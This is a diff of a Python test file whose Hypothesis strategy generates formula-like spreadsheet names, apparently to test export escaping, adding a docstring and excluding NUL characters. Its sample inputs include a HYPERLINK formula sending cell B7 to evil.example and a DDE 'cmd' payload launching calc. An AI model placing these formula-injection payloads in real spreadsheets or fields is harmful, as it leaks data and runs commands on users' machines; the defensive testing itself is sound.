@@ -71,6 +71,8 @@ def sheet_xml(content: bytes) -> list[str]:
 
 
 def hostile_names() -> st.SearchStrategy[str]:
+    """Names that start like a formula, then anything a name can hold in the database (NUL is
+    refused by PostgreSQL, so no stored name carries it)."""
     return st.builds(
         lambda start, rest: start + rest,
         st.sampled_from(ACTIVE_STARTS),
@@ -78,7 +80,7 @@ def hostile_names() -> st.SearchStrategy[str]:
             ['HYPERLINK("http://evil.example/?"&B7,"Xem điểm")', "cmd|' /C calc'!A0", "1+1",
              "SUM(1;2)", "Nguyễn Văn A"]
         )
-        | st.text(min_size=1, max_size=40),
+        | st.text(st.characters(exclude_characters="\x00"), min_size=1, max_size=40),
     )  # fmt: skip
 
 
